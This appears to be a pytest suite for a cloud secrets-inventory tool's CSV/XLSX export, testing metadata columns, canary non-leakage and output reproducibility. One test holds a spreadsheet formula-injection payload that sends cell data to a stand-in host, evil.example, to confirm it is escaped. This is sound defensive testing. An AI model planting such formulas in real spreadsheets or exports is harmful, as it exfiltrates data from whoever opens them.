"""`assess inventory`: every secret, key and certificate with its facts, as CSV and XLSX read back
with the standard library and openpyxl; never a value (the demo tenant's canaries appear nowhere)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_demo_tenant import CANARY, CASSETTE

from assess.cli import DEMO_AS_OF, main
from assess.inventory import COLUMNS
from assess.snapshot import load_snapshot


@pytest.fixture(scope="module")
def demo_snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("inventory") / "snapshot.json"
    code = main(
        ["collect", "--replay", str(CASSETTE), "--all-subscriptions", "-o", str(path), "-q"]
    )
    assert code == 0
    return path


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def read_xlsx(path: Path) -> list[dict[str, str]]:
    sheet = load_workbook(path, read_only=True)["inventory"]
    rows = [["" if c is None else str(c) for c in row] for row in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_and_xlsx_hold_every_item_of_the_demo(
    demo_snapshot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "inventory"
    code = main(
        ["inventory", str(demo_snapshot), "--as-of", DEMO_AS_OF, "-f", "csv,xlsx", "-o", str(out)]
    )
    assert code == 0
    capsys.readouterr()
    from_csv = read_csv((out / "report.csv").read_text(encoding="utf-8"))
    from_xlsx = read_xlsx(out / "report.xlsx")
    assert from_csv == from_xlsx

    snapshot = load_snapshot(demo_snapshot)
    vaulted = [r for r in from_csv if r["kind"] in ("secret", "key", "certificate")]
    assert len(vaulted) == len(snapshot.secrets) + len(snapshot.keys)
    assert all(r["shared_group"] == "" for r in vaulted)  # a vault's values are never read
    # Then every credential held outside a vault, each with the group the reports name.
    outside = from_csv[len(vaulted) :]
    assert outside and all(r["kind"] not in ("secret", "key", "certificate") for r in outside)
    results = json.loads(_results_json(demo_snapshot, tmp_path, capsys).read_text(encoding="utf-8"))
    groups = {
        (p["resource_name"], p["setting"]): g["id"]
        for g in results["shared_credentials"]
        for p in g["places"]
    }
    assert groups  # the demo tenant shares one credential
    for row in outside:
        assert row["shared_group"] == groups.get((row["store"], row["name"]), "")
    slot = next(r for r in outside if r["store"] == "app-payments-dev/preview")
    assert slot["kind"].startswith("slot ") and slot["shared_group"].startswith("cred-")

    sas = next(r for r in from_csv if r["name"] == "datalake-sas")
    assert (sas["store"], sas["enabled"], sas["expires"], sas["days_to_expiry"]) == (
        "kv-analytics-shared",
        "yes",
        "2026-11-13",
        "12",
    )
    assert (sas["last_rotation"], sas["age_days"]) == ("2026-10-24", "7")
    assert "Key Vault" in sas["readers"]  # who reads it, and through which role
    assert sas["findings"] == "SE09-5.5 fail" and sas["failing"] == "1"
    cmk = next(r for r in from_csv if r["name"] == "analytics-cmk")
    assert cmk["kind"] == "key" and "Contoso Key Vault Operator at " in cmk["readers"]
    legacy = next(r for r in from_csv if r["name"] == "legacy-document-key")
    assert legacy["readers"].endswith("(an access policy)")
    expired = next(r for r in from_csv if r["name"] == "powerbi-service-secret")
    assert expired["days_to_expiry"] == "-20"  # a number, not text guarded as a formula


def test_no_value_of_the_demo_reaches_the_inventory(
    demo_snapshot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert CANARY in CASSETTE.read_text()
    out = tmp_path / "inventory"
    main(["inventory", str(demo_snapshot), "--as-of", DEMO_AS_OF, "-f", "csv,xlsx", "-o", str(out)])
    main(["inventory", str(demo_snapshot), "--as-of", DEMO_AS_OF])
    stdout, stderr = capsys.readouterr()
    with zipfile.ZipFile(out / "report.xlsx") as book:
        unpacked = b"".join(book.read(name) for name in book.namelist())
    for haystack in (stdout.encode(), stderr.encode(), (out / "report.csv").read_bytes(), unpacked):
        assert CANARY.encode() not in haystack


def test_the_xlsx_is_byte_identical_from_run_to_run(demo_snapshot: Path, tmp_path: Path) -> None:
    files = [tmp_path / "a.xlsx", tmp_path / "b.xlsx"]
    for target in files:
        args = ["inventory", str(demo_snapshot), "--as-of", DEMO_AS_OF, "-f", "xlsx"]
        assert main([*args, "-o", str(target), "-q"]) == 0
    assert files[0].read_bytes() == files[1].read_bytes()


def test_a_results_file_gives_the_items_it_names_and_says_what_is_missing(
    demo_snapshot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = tmp_path / "results.json"
    code = main(
        ["evaluate", str(demo_snapshot), "--as-of", DEMO_AS_OF, "-f", "json", "-o", str(results)]
    )
    assert code == 0
    capsys.readouterr()
    assert main(["inventory", str(results)]) == 0
    stdout, stderr = capsys.readouterr()
    rows = read_csv(stdout)
    assert "give the snapshot" in stderr
    sas = next(r for r in rows if r["name"] == "datalake-sas")
    assert (sas["store"], sas["findings"], sas["expires"]) == (
        "kv-analytics-shared",
        "SE09-5.5 fail",
        "",
    )
    vaulted = [r for r in rows if not r["shared_group"]]
    assert all(
        any(f"/{kind}/" in r["id"] for kind in ("secrets", "keys", "certificates")) for r in vaulted
    )
    # A results file holds the places of shared credentials (and their group), not the others.
    shared = [r for r in rows if r["shared_group"]]
    assert shared and {r["shared_group"] for r in shared} == {
        g["id"] for g in json.loads(results.read_text(encoding="utf-8"))["shared_credentials"]
    }
    assert any(r["kind"] == "certificate" and "/certificates/" in r["id"] for r in rows)
    # with the snapshot, the findings come from the results file and the facts from the snapshot
    assert main(["inventory", str(demo_snapshot), "--results", str(results)]) == 0
    joined = read_csv(capsys.readouterr().out)
    assert next(r for r in joined if r["name"] == "datalake-sas")["expires"] == "2026-11-13"


def test_hostile_names_stay_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from gate_helpers import save
    from snapshot_factory import make_secret, make_snapshot, make_vault

    vault = make_vault("kv-app", enable_rbac_authorization=True)
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    snapshot = save(tmp_path, "s", make_snapshot(vault, make_secret(evil, vault)))
    out = tmp_path / "inv.xlsx"
    assert (
        main(["inventory", str(snapshot), "--as-of", DEMO_AS_OF, "-f", "xlsx", "-o", str(out)]) == 0
    )
    assert main(["inventory", str(snapshot), "--as-of", DEMO_AS_OF]) == 0
    row = read_csv(capsys.readouterr().out)[0]
    assert row["name"] == "'" + evil  # a spreadsheet opening the CSV shows it, never runs it
    cell = load_workbook(out)["inventory"]["B2"]
    assert cell.data_type == "s" and cell.value == evil


def test_usage_errors_are_one_line(
    demo_snapshot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["inventory", str(demo_snapshot), "-f", "xlsx"]) == 2
    assert "binary" in capsys.readouterr().err
    assert main(["inventory", str(demo_snapshot), "-f", "ods"]) == 2
    assert "unknown format" in capsys.readouterr().err
    assert main(["inventory", str(tmp_path / "none.json")]) == 2
    assert "not found" in capsys.readouterr().err


def _results_json(demo_snapshot: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    results = tmp_path / "results.json"
    args = ["evaluate", str(demo_snapshot), "--as-of", DEMO_AS_OF, "-f", "json", "-o", str(results)]
    assert main(args) == 0
    capsys.readouterr()
    return results
